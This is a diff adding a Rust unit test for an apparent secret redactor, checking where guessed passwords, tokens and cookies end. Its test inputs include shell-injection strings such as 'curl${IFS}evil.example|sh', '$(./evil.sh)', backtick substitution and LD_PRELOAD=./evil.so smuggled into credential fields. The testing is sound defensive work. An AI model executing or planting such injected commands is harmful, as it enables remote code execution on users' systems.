@@ -387,3 +387,40 @@ fn built_in_names_of_variables_are_found_as_their_globs_say() {
     let vars = ["A_KEY", "PATH", "mine"].map(|name| (name.into(), name.into()));
     assert_eq!(secret_env(&["m*".to_owned()], vars).unwrap(), ["A_KEY", "mine"]);
 }
+
+#[test]
+fn a_guess_ends_where_a_shell_would_end_it() {
+    for (text, left) in [
+        ("mysql -px;curl${IFS}evil.example|sh", ";curl${IFS}evil.example|sh"),
+        ("sshpass -px;./evil.sh", ";./evil.sh"),
+        ("curl -u a:b;./evil.sh", ";./evil.sh"),
+        ("curl -u a:b&&./evil.sh", "&&./evil.sh"),
+        ("curl https://a:b;sh${IFS}evil.sh;true@h", ";sh${IFS}evil.sh;true@h"),
+        ("PASSWORD=\"x$(./evil.sh)\"", "$(./evil.sh)\""),
+        ("PASSWORD=\"x`./evil.sh`\"", "`./evil.sh`\""),
+        ("PASSWORD='x\\';./evil.sh;''", "';./evil.sh;''"),
+        ("PASSWORD=\\\"x;./evil.sh;\\\"", ";./evil.sh;\\\""),
+        ("tool --token z1`./evil.sh`", "`./evil.sh`"),
+        ("curl -H Cookie:a=1;./evil.sh", ";./evil.sh"),
+        ("Cookie: a=1; LD_PRELOAD=./evil.so", "; LD_PRELOAD=./evil.so"),
+        ("curl -H Authorization:x1x2x3x4|./evil.sh", "|./evil.sh"),
+        ("-----BEGIN PRIVATE KEY-----; ./evil.sh", "; ./evil.sh"),
+    ] {
+        let found = Redactor::default().text(text, Mark::Record);
+        assert!(found.left.ends_with(&format!("›{left}")), "{text}: {}", found.left);
+        assert_eq!(found.hidden, 1, "{text}: {}", found.left);
+    }
+    for (text, secret) in [
+        ("PASSWORD=\"a`b;c\"", "b;c"),
+        ("password='a;b|c'", "b|c"),
+        ("{\"password\": \"a(b;c\"}", "b;c"),
+        ("curl -H 'Cookie: a=1; b=2' x", "b=2"),
+        ("Cookie: a=1; JSESSIONID=2; c=3", "c=3"),
+    ] {
+        assert!(!record(text).contains(secret), "{text}: {}", record(text));
+    }
+    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
+    let code =
+        format!("x = \"-----BEGIN {0} KEY-----\\n\"\n  \"{key}\\n\"\n  \"-----END {0} KEY-----\"", "PRIVATE");
+    assert!(!record(&code).contains(key), "{}", record(&code));
+}
